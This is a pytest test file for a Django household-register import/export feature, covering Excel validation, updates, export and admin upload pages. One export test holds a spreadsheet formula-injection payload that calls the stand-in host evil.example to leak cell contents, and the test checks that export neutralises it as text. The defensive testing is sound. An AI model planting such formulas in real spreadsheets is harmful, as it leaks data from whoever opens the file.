"""Register import and export (households.register), its command and its admin pages."""

import datetime
import io
import zipfile

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from households.models import FocusGroup, Household, Node, NodeKind, Street
from households.register import (
    HEADERS,
    INSTRUCTIONS,
    INSTRUCTIONS_SHEET_NAME,
    SHEET_NAME,
    RowError,
    address_key,
    import_register,
    import_register_file,
    write_register,
)

from .xlsx import SAMPLE, read_sheet, register_row, valid_id_number, write_register_file

pytestmark = pytest.mark.django_db


@pytest.fixture
def street():
    return Street.objects.create(name="湖田街道")


def node_counts(street):
    under = Node.objects.filter(path__startswith=street.path + ".")
    return {kind: under.filter(kind=kind).count() for kind in ("community", "grid", "building")}


def tag_names(household):
    return {t.name for t in household.tags.all()}


# --- the sample file -------------------------------------------------------------------------


def test_it_imports_the_sample_file(street):
    report = import_register(street=street, source=SAMPLE)

    assert report.ok, report.summary()
    assert (report.total_rows, report.created, report.updated, report.unchanged) == (40, 40, 0, 0)
    assert report.nodes_created == {"community": 4, "grid": 12, "building": 40}
    assert node_counts(street) == {"community": 4, "grid": 12, "building": 40}
    assert report.summary() == "共 40 行：新增 40 户，更新 0 户，未变 0 户；新建社区 4 个、网格 12 个、楼栋 40 个"
    assert Household.objects.filter(street=street).count() == 40

    h = Household.objects.select_related("community", "grid", "building").get(id_number="110105195910010132")
    assert (h.community.name, h.grid.name, h.building.name, h.unit, h.room) == (
        "湖田社区",
        "第3网格",
        "18号楼",
        "2单元",
        "1204",
    )
    assert (h.head_name, h.phone, h.size, h.notes) == ("唐建华", "14579190748", 4, "")
    assert tag_names(h) == {"单亲儿童", "困难群众"}
    assert Household.tags.through.objects.count() == 27  # every focus group named in the sample
    assert h.path == h.building.path and h.path.startswith(street.path + ".")
    assert h.created_at is not None and h.updated_at is not None
    # The bulk path sets the same address_key and path as Household.save() would.
    key, path = h.address_key, h.path
    h.save()
    assert (h.address_key, h.path) == (key, path)
    assert Household.objects.get(id_number="35082119950215965X").head_name == "宁阳"


def test_reimporting_the_sample_changes_nothing(street):
    import_register(street=street, source=SAMPLE)
    before = list(Household.objects.order_by("pk").values_list("pk", "updated_at"))
    tags_before = Household.tags.through.objects.count()

    report = import_register(street=street, source=SAMPLE)

    assert report.ok
    assert (report.created, report.updated, report.unchanged) == (0, 0, 40)
    assert report.nodes_created == {"community": 0, "grid": 0, "building": 0}
    assert list(Household.objects.order_by("pk").values_list("pk", "updated_at")) == before
    assert Household.tags.through.objects.count() == tags_before
    assert node_counts(street) == {"community": 4, "grid": 12, "building": 40}


def test_the_same_file_goes_into_two_streets_separately(street):
    other = Street.objects.create(name="南纬街道")
    import_register(street=street, source=SAMPLE)
    report = import_register(street=other, source=SAMPLE)
    assert report.created == 40
    assert Household.objects.count() == 80
    assert node_counts(other) == {"community": 4, "grid": 12, "building": 40}


def test_dry_run_writes_nothing_but_counts_the_same(street):
    report = import_register(street=street, source=SAMPLE, dry_run=True)

    assert report.ok and report.dry_run
    assert (report.created, report.updated, report.unchanged) == (40, 0, 0)
    assert report.nodes_created == {"community": 4, "grid": 12, "building": 40}
    assert report.summary().startswith("试导入（未写入任何数据）：共 40 行：新增 40 户")
    assert Household.objects.count() == 0
    assert list(Node.objects.all()) == [street]


def test_it_reads_a_file_object_too(street):
    with open(SAMPLE, "rb") as f:
        report = import_register(street=street, source=io.BytesIO(f.read()))
    assert report.created == 40


# --- bad files: all or nothing ---------------------------------------------------------------


def test_a_file_with_bad_rows_imports_nothing_and_lists_every_bad_row(street, tmp_path):
    bad_check = valid_id_number(3)[:-1] + ("0" if valid_id_number(3)[-1] != "0" else "1")
    rows = [
        register_row(1),  # row 2: fine
        register_row(2, id_number=bad_check),  # row 3
        register_row(3, head_name="", size="两"),  # row 4: two errors
        register_row(4, id_number=110105195910010132),  # row 5: typed as a number, digits lost
        {},  # row 6: blank, skipped
        register_row(5, tags="老党员、独居老人，广场舞"),  # row 7
        register_row(6, room="101"),  # row 8: same address as row 2
        register_row(7, phone="12345"),  # row 9
        register_row(8, community=""),  # row 10
        register_row(9, room=datetime.date(2024, 3, 1)),  # row 11: Excel turned 3-1 into a date
        register_row(10, id_number="11010519990230" + "0131"),  # row 12: 19990230 is no date
        register_row(11, size=0),  # row 13
    ]
    path = write_register_file(tmp_path / "bad.xlsx", rows)

    report = import_register(street=street, source=path)

    assert not report.ok
    assert report.errors == [
        RowError(3, "身份证号", "身份证号校验码错误"),
        RowError(4, "户主姓名", "户主姓名不能为空"),
        RowError(4, "家庭人口", "家庭人口应为正整数，现为“两”"),
        RowError(
            5, "身份证号", "身份证号被 Excel 存成了数字，末几位已丢失；请把该列设置为“文本”格式后重新填写身份证号"
        ),
        RowError(
            7,
            "重点人群",
            "没有名为“独居老人、广场舞”的重点人群，可填：老党员、困难群众、困难家庭、低保户、孤寡老人、留守儿童、"
            "上访老户、信访人员、残疾人、高龄老人、卧床病人、单亲儿童、特殊困难群体、驻区企业",
        ),
        RowError(8, "门牌号", "与第 2 行是同一户地址（社区+网格+楼栋+单元+门牌号相同），同一街道内每户只能出现一次"),
        RowError(9, "联系电话", "联系电话应为11位手机号或带区号的固定电话（如0532-82345678）"),
        RowError(10, "社区", "社区不能为空"),
        RowError(11, "门牌号", "门牌号被 Excel 识别成了日期/时间，请把该列设置为“文本”格式后重新填写"),
        RowError(12, "身份证号", "身份证号中的出生日期19990230无效"),
        RowError(13, "家庭人口", "家庭人口应为正整数，现为“0”"),
    ]
    assert report.bad_rows == 10
    summary = report.summary().splitlines()
    assert summary[0] == "发现 10 行有误，未导入任何数据"
    assert summary[1] == "第 3 行【身份证号】：身份证号校验码错误"
    assert len(summary) == 1 + len(report.errors)
    assert Household.objects.count() == 0
    assert list(Node.objects.all()) == [street]


def test_a_duplicate_row_still_reports_its_own_errors(street, tmp_path):
    path = write_register_file(tmp_path / "dup.xlsx", [register_row(1), register_row(2, room="101", phone="1")])
    report = import_register(street=street, source=path)
    assert [(e.row, e.column) for e in report.errors] == [(3, "联系电话"), (3, "门牌号")]


def test_a_database_failure_midway_leaves_nothing_behind(street, monkeypatch):
    from households.register import importing

    def fail(*args, **kwargs):
        raise RuntimeError("disk full")

    # Fails after the nodes and the households of the first batch are written.
    monkeypatch.setattr(importing._HouseholdWriter, "replace_tags", fail)
    with pytest.raises(RuntimeError):
        import_register(street=street, source=SAMPLE)
    assert list(Node.objects.all()) == [street]
    assert Household.objects.count() == 0


def test_a_missing_required_column_is_named_with_the_names_it_goes_by(street, tmp_path):
    path = write_register_file(tmp_path / "h.xlsx", [register_row(1)], headers=HEADERS[:6] + HEADERS[7:])
    report = import_register(street=street, source=path)
    (error,) = report.errors
    assert (error.row, error.column) == (1, "身份证号")
    assert "第 1 行最像表头，但缺少必填的列：身份证号（可写作：身份证号、身份证号码、公民身份号码" in error.message
    assert report.summary() == "文件无法按居民底册读取，未导入任何数据\n第 1 行【身份证号】：" + error.message
    assert Household.objects.count() == 0
    # the header's columns are known, so that the admin can map them
    assert [c[1] for c in report.found["columns"]] == list(HEADERS[:6] + HEADERS[7:])


def test_a_missing_address_column_is_named_and_so_is_what_was_not_recognised(street, tmp_path):
    headers = ("社区", "网格", "楼栋", "单元", "房间", "户主姓名", "身份证号", "联系电话", "家庭人口")
    path = write_register_file(tmp_path / "h.xlsx", [{**register_row(1), "房间": "101"}], headers=headers)
    (error,) = import_register(street=street, source=path).errors
    assert (error.row, error.column) == (1, "门牌号")
    assert error.message.startswith("第 1 行表头缺少列：门牌号（可写作：门牌号、房号、室号")
    assert "未识别的列：“房间”" in error.message


@pytest.mark.parametrize(
    "headers",
    [
        HEADERS + ("民族",),  # a column the product does not use
        HEADERS[1:2] + HEADERS[:1] + HEADERS[2:],  # another order
        ("户号",) + HEADERS,  # 户号 known, and not needed
    ],
)
def test_other_orders_and_extra_columns_import_the_same(street, tmp_path, headers):
    by_header = {**register_row(1), "民族": "汉族", "户号": "H001"}
    path = write_register_file(tmp_path / "h.xlsx", [by_header], headers=headers)
    report = import_register(street=street, source=path)
    assert report.ok, report.summary()
    household = Household.objects.get()
    assert (household.head_name, household.id_number) == (by_header["户主姓名"], by_header["身份证号"])
    assert report.found["ignored"] == [h for h in headers if h == "民族"]


def test_any_sheet_name_is_read(street, tmp_path):
    path = write_register_file(tmp_path / "s.xlsx", [register_row(1)], sheet="Sheet1")
    report = import_register(street=street, source=path)
    assert report.ok and report.created == 1
    assert report.found["sheet_name"] == "Sheet1"


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("register.xlsx", "社区,网格\n湖田社区,第1网格\n".encode(), "缺少必填的列：身份证号"),
        ("register.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 100, "文件无法读取"),
        ("register.csv", b"a,b", "在文件的前 20 行中找不到表头"),
        ("register.csv", bytes(range(256)) * 4, "文件无法识别"),
    ],
)
def test_a_file_that_is_not_a_register_is_refused_plainly(street, tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    (error,) = import_register(street=street, source=path).errors
    assert message in error.message, error.message
    assert Household.objects.count() == 0


def test_it_refuses_a_broken_xlsx(street, tmp_path):
    path = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    (error,) = import_register(street=street, source=path).errors
    assert error.message.startswith("文件无法读取")


def test_it_refuses_an_empty_register(street, tmp_path):
    path = write_register_file(tmp_path / "empty.xlsx", [])
    (error,) = import_register(street=street, source=path).errors
    assert error.message == "第 1 行表头以下没有数据，请在表头下每行填写一户"


def test_it_refuses_more_rows_than_the_limit(street, tmp_path, settings):
    settings.IMPORT_MAX_ROWS = 3
    path = write_register_file(tmp_path / "big.xlsx", [register_row(n) for n in range(1, 5)])
    report = import_register(street=street, source=path)
    assert [e.message for e in report.errors] == ["数据超过 3 行的上限，请按社区拆分成几个文件分别导入"]
    assert Household.objects.count() == 0


def test_blank_rows_are_skipped_and_rows_keep_their_excel_numbers(street, tmp_path, settings):
    settings.IMPORT_MAX_ROWS = 2  # blank rows do not count
    rows = [register_row(1), {}, {"备注": "   "}, register_row(2, size="x")]
    report = import_register(street=street, source=write_register_file(tmp_path / "b.xlsx", rows))
    assert report.total_rows == 2
    assert [(e.row, e.column) for e in report.errors] == [(5, "家庭人口")]


# --- cell types and vocabulary --------------------------------------------------------------


def test_numbers_typed_into_text_columns_are_read_as_text(street, tmp_path):
    row = register_row(1, room=1204, unit=2, phone=13800000000, size=4.0)
    path = write_register_file(tmp_path / "n.xlsx", [row], text_columns=())
    report = import_register(street=street, source=path)
    assert report.ok, report.summary()
    h = Household.objects.get()
    assert (h.room, h.unit, h.phone, h.size) == ("1204", "2", "13800000000", 4)


def test_a_landline_typed_as_a_number_lost_its_zero_and_the_reason_says_so(street, tmp_path):
    path = write_register_file(tmp_path / "p.xlsx", [register_row(1, phone=53282345678)], text_columns=())
    (error,) = import_register(street=street, source=path).errors
    assert error.column == "联系电话"
    assert "请把该列设置为“文本”格式" in error.message


def test_text_is_trimmed_and_ids_and_phones_normalized(street, tmp_path):
    row = register_row(
        1, community=" 湖田社区 ", head_name="\u3000张三 ", id_number="35082119950215965x", phone="+86 138 0000 0000"
    )
    import_register(street=street, source=write_register_file(tmp_path / "t.xlsx", [row]))
    h = Household.objects.select_related("community").get()
    assert (h.community.name, h.head_name, h.id_number, h.phone) == (
        "湖田社区",
        "张三",
        "35082119950215965X",
        "13800000000",
    )


def test_focus_groups_accept_aliases_and_commas(street, tmp_path):
    row = register_row(1, tags="困难家庭，信访人员,高龄老人、困难群众")
    import_register(street=street, source=write_register_file(tmp_path / "g.xlsx", [row]))
    assert tag_names(Household.objects.get()) == {"困难群众", "上访老户", "高龄老人"}


def test_a_bungalow_without_building_hangs_under_its_grid(street, tmp_path):
    row = register_row(1, building="", unit="")
    report = import_register(street=street, source=write_register_file(tmp_path / "b.xlsx", [row]))
    assert report.nodes_created == {"community": 1, "grid": 1, "building": 0}
    h = Household.objects.select_related("grid").get()
    assert h.building_id is None and h.path == h.grid.path
    assert h.address_key == address_key("湖田社区", "第1网格", "", "", "101")


def test_too_long_text_is_refused_before_the_database_sees_it(street, tmp_path):
    path = write_register_file(tmp_path / "l.xlsx", [register_row(1, unit="单" * 33)])
    (error,) = import_register(street=street, source=path).errors
    assert error == RowError(2, "单元", "单元不能超过 32 个字（现有 33 个）")


# --- updates ---------------------------------------------------------------------------------


def test_changed_rows_are_updated_on_reimport(street, tmp_path):
    rows = [register_row(n, tags="老党员") for n in range(1, 6)]
    import_register(street=street, source=write_register_file(tmp_path / "v1.xlsx", rows))
    untouched = Household.objects.get(room="103")

    rows[0] = register_row(1, head_name="新户主", size=5, tags="老党员")
    rows[1] = register_row(2, tags="低保户、残疾人")
    rows[3] = register_row(4, notes="已搬走")
    report = import_register(street=street, source=write_register_file(tmp_path / "v2.xlsx", rows))

    assert (report.created, report.updated, report.unchanged) == (0, 3, 2)
    assert report.summary().startswith("共 5 行：新增 0 户，更新 3 户，未变 2 户")
    first = Household.objects.get(room="101")
    assert (first.head_name, first.size) == ("新户主", 5)
    assert tag_names(first) == {"老党员"}
    assert tag_names(Household.objects.get(room="102")) == {"低保户", "残疾人"}
    assert Household.objects.get(room="104").notes == "已搬走"
    assert Household.objects.get(room="103").updated_at == untouched.updated_at
    assert Household.objects.count() == 5


def test_households_missing_from_the_file_are_kept(street, tmp_path):
    import_register(street=street, source=write_register_file(tmp_path / "a.xlsx", [register_row(1), register_row(2)]))
    report = import_register(street=street, source=write_register_file(tmp_path / "b.xlsx", [register_row(2)]))
    assert (report.created, report.unchanged) == (0, 1)
    assert Household.objects.count() == 2


# --- export ----------------------------------------------------------------------------------


def test_export_round_trips_into_the_same_street(street, tmp_path):
    import_register(street=street, source=SAMPLE)
    out = tmp_path / "export.xlsx"
    with open(out, "wb") as f:
        assert write_register(Household.objects.filter(street=street), f) == 40

    exported = read_sheet(out)
    template = read_sheet(SAMPLE)
    assert exported[0] == template[0] == HEADERS
    assert sorted(map(_blank_to_none, exported[1:])) == sorted(map(_blank_to_none, template[1:]))
    assert read_sheet(out, INSTRUCTIONS_SHEET_NAME) == read_sheet(SAMPLE, INSTRUCTIONS_SHEET_NAME)
    assert read_sheet(out, INSTRUCTIONS_SHEET_NAME) == [tuple(v or None for v in r) for r in INSTRUCTIONS]

    report = import_register(street=street, source=out)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 40)


def _blank_to_none(row):
    """A register row compared by content: blanks alike, focus groups in any order."""
    row = tuple(None if v in ("", None) else v for v in row)
    tags = "、".join(sorted(row[9].split("、"))) if row[9] else None
    return row[:9] + (tags,) + row[10:]


def test_export_writes_ids_and_phones_as_text(street, tmp_path):
    import_register(street=street, source=SAMPLE)
    out = io.BytesIO()
    write_register(Household.objects.all(), out)
    out.seek(0)
    from openpyxl import load_workbook

    ws = load_workbook(out)[SHEET_NAME]
    id_cells = [row[6] for row in ws.iter_rows(min_row=2)]
    phone_cells = [row[7] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in id_cells + phone_cells)
    assert "35082119950215965X" in {c.value for c in id_cells}


def test_export_writes_a_formula_like_head_name_as_text(street, tmp_path):
    import_register(street=street, source=write_register_file(tmp_path / "a.xlsx", [register_row(1), register_row(2)]))
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点我")'
    Household.objects.filter(room="101").update(head_name=evil, notes="-2+3")
    out = tmp_path / "export.xlsx"
    with open(out, "wb") as f:
        write_register(Household.objects.order_by("room"), f)

    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    from openpyxl import load_workbook

    ws = load_workbook(out)[SHEET_NAME]
    head, notes = ws["F2"], ws["K2"]
    assert (head.value, head.data_type, head.quotePrefix) == (evil, "s", True)
    assert (notes.value, notes.data_type, notes.quotePrefix) == ("-2+3", "s", True)
    assert ws["F3"].quotePrefix is False  # ordinary text stays ordinary

    report = import_register(street=street, source=out)
    assert (report.updated, report.unchanged) == (0, 2)
    assert Household.objects.get(room="101").head_name == evil


def test_export_queries_do_not_grow_with_rows(street, tmp_path, django_assert_max_num_queries):
    import_register(street=street, source=SAMPLE)
    with django_assert_max_num_queries(2):  # households with names, then their focus groups
        write_register(Household.objects.all(), io.BytesIO())


# --- management command ----------------------------------------------------------------------


def test_command_imports_a_good_file_and_exits_zero(capsys):
    call_command("import_households", str(SAMPLE), street="湖田街道")
    out = capsys.readouterr().out
    assert "共 40 行：新增 40 户" in out
    assert "新建街道“湖田街道”" in out
    assert Household.objects.filter(street__name="湖田街道").count() == 40


def test_command_dry_run_writes_nothing(capsys):
    call_command("import_households", str(SAMPLE), "--dry-run", street="湖田街道")
    assert "试导入（未写入任何数据）" in capsys.readouterr().out
    assert Node.objects.count() == 0 and Household.objects.count() == 0


def test_command_exits_non_zero_on_a_bad_file(tmp_path):
    path = write_register_file(tmp_path / "bad.xlsx", [register_row(1), register_row(2, id_number="123")])
    with pytest.raises(CommandError) as exc:
        call_command("import_households", str(path), street="湖田街道")
    assert exc.value.returncode != 0
    assert str(exc.value) == "发现 1 行有误，未导入任何数据\n第 3 行【身份证号】：身份证号应为18位，实际为3位"
    assert not Street.objects.exists()  # not even the street is left behind


def test_command_exits_non_zero_on_an_unreadable_file(tmp_path):
    with pytest.raises(CommandError) as exc:
        call_command("import_households", str(tmp_path / "missing.xlsx"), street="湖田街道")
    assert "找不到文件" in str(exc.value)


def test_command_uses_an_existing_street(street, capsys):
    call_command("import_households", str(SAMPLE), street=street.name)
    assert "新建街道" not in capsys.readouterr().out
    assert Street.objects.count() == 1


def test_import_register_refuses_a_node_that_is_not_a_street(street):
    community = Node.objects.create(kind=NodeKind.COMMUNITY, name="湖田社区", parent=street)
    with pytest.raises(ValueError):
        import_register(street=community, source=SAMPLE)


def test_import_register_file_creates_the_street_only_on_success(tmp_path):
    report = import_register_file(SAMPLE, street_name="新街道", dry_run=True)
    assert report.ok and not Street.objects.exists()
    report = import_register_file(SAMPLE, street_name="新街道")
    assert report.notes == ["新建街道“新街道”"]
    assert Street.objects.get().name == "新街道"


# --- admin -----------------------------------------------------------------------------------


@pytest.fixture
def admin_client_media(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    user = User.objects.create_superuser("boss", password="x")
    client.force_login(user)
    return client


def upload(client, street, name="register.xlsx", content=None):
    content = SAMPLE.read_bytes() if content is None else content
    return client.post(
        reverse("admin:households_household_import"),
        {"street": street.pk, "file": SimpleUploadedFile(name, content)},
    )


def test_admin_import_flow_previews_then_imports(admin_client_media, street, settings):
    client = admin_client_media
    page = client.get(reverse("admin:households_household_import"))
    assert page.status_code == 200
    assert "导入居民底册" in page.content.decode() and street.name in page.content.decode()

    preview = upload(client, street)
    html = preview.content.decode()
    assert preview.status_code == 200
    assert "确认导入" in html and "检查通过" in html
    assert preview.context["report"].created == 40
    assert preview.context["report"].nodes_created == {"community": 4, "grid": 12, "building": 40}
    assert Household.objects.count() == 0  # nothing yet: only a trial run
    token = client.session["households_register_import"]["token"]
    stored = settings.MEDIA_ROOT / "imports" / f"{token}.xlsx"
    assert stored.exists()

    done = client.post(reverse("admin:households_household_import_confirm"), {"token": token})
    assert done.status_code == 302
    assert done.url == reverse("admin:households_household_changelist")
    assert Household.objects.filter(street=street).count() == 40
    assert not stored.exists()
    assert "households_register_import" not in client.session

    # A second click on 确认导入 (or the back button) does not import again.
    again = client.post(reverse("admin:households_household_import_confirm"), {"token": token})
    assert again.status_code == 302 and again.url == reverse("admin:households_household_import")


def test_admin_import_shows_every_bad_row_and_offers_no_confirmation(admin_client_media, street, tmp_path):
    path = write_register_file(
        tmp_path / "bad.xlsx", [register_row(1), register_row(2, id_number="1"), register_row(3, phone="2")]
    )
    preview = upload(admin_client_media, street, content=path.read_bytes())
    html = preview.content.decode()
    assert preview.status_code == 200
    assert "确认导入" not in html
    assert "有 2 行有误，未导入任何数据" in html
    assert '<th scope="col">行号</th>' in html
    assert "身份证号应为18位，实际为1位" in html and "联系电话应为11位手机号" in html
    assert "households_register_import" not in admin_client_media.session
    assert Household.objects.count() == 0


def test_admin_import_cancel_discards_the_upload(admin_client_media, street, settings):
    upload(admin_client_media, street)
    token = admin_client_media.session["households_register_import"]["token"]
    response = admin_client_media.post(
        reverse("admin:households_household_import_confirm"), {"token": token, "cancel": "取消"}
    )
    assert response.status_code == 302
    assert not list((settings.MEDIA_ROOT / "imports").glob("*.xlsx"))
    assert Household.objects.count() == 0


def test_admin_refuses_a_file_over_the_size_limit(admin_client_media, street, settings):
    settings.IMPORT_MAX_UPLOAD_MB = 1
    response = upload(admin_client_media, street, content=b"PK\x03\x04" + b"\0" * (1024 * 1024))
    assert response.status_code == 200
    assert "超过了 1 MB 的上限" in response.content.decode()
    assert "report" not in response.context
    assert not (settings.MEDIA_ROOT / "imports").exists()  # refused before it was stored or parsed


def test_admin_explains_a_damaged_xls(admin_client_media, street):
    response = upload(admin_client_media, street, name="register.xls", content=b"\xd0\xcf\x11\xe0")
    assert "文件无法读取" in response.content.decode()
    assert not response.context["report"].ok and "确认导入" not in response.content.decode()
    assert Household.objects.count() == 0


def test_admin_import_needs_the_add_permission(client, street):
    staff = User.objects.create_user("clerk", password="x", is_staff=True)
    client.force_login(staff)
    assert client.get(reverse("admin:households_household_import")).status_code == 403
    assert upload(client, street).status_code == 403
    assert Household.objects.count() == 0


def test_admin_offers_only_streets_wholly_in_the_users_scope(street, client, settings, tmp_path):
    from django.contrib.auth.models import Group, Permission

    from households.import_jobs import importable_streets
    from households.roles import STREET_ADMIN
    from visitplan.models import Cadre, Tier

    settings.MEDIA_ROOT = tmp_path
    other = Street.objects.create(name="别的街道")
    community = Node.objects.create(kind=NodeKind.COMMUNITY, name="湖田社区", parent=street)
    group, _ = Group.objects.get_or_create(name=STREET_ADMIN)
    group.permissions.set(Permission.objects.filter(codename__in=["add_household", "change_household"]))

    def street_admin(username, scope):
        user = User.objects.create_user(username, password="x", is_staff=True)
        user.groups.add(group)
        Cadre.objects.create(user=user, name=username, tier=Tier.STREET_STAFF, scope=scope)
        return user

    assert set(importable_streets(User.objects.create_superuser("boss", password="x"))) == {street, other}
    assert list(importable_streets(street_admin("street_admin", street))) == [street]
    # Scoped to one community: the street shows as its ancestor, but importing into it would reach every community.
    community_admin = street_admin("community_admin", community)
    assert not importable_streets(community_admin).exists()
    client.force_login(community_admin)
    response = upload(client, street)
    assert response.status_code == 200 and "report" not in response.context
    assert Household.objects.count() == 0


def test_admin_template_download_is_the_blank_template(admin_client_media, tmp_path):
    response = admin_client_media.get(reverse("admin:households_household_import_template"))
    assert response.status_code == 200
    path = tmp_path / "t.xlsx"
    path.write_bytes(response.content)
    assert read_sheet(path) == [HEADERS]
    assert read_sheet(path, INSTRUCTIONS_SHEET_NAME) == read_sheet(SAMPLE, INSTRUCTIONS_SHEET_NAME)


def test_focus_group_vocabulary_comes_from_the_database(street, tmp_path):
    FocusGroup.objects.create(name="退役军人", aliases="军属、优抚对象")
    row = register_row(1, tags="优抚对象")
    import_register(street=street, source=write_register_file(tmp_path / "f.xlsx", [row]))
    assert tag_names(Household.objects.get()) == {"退役军人"}
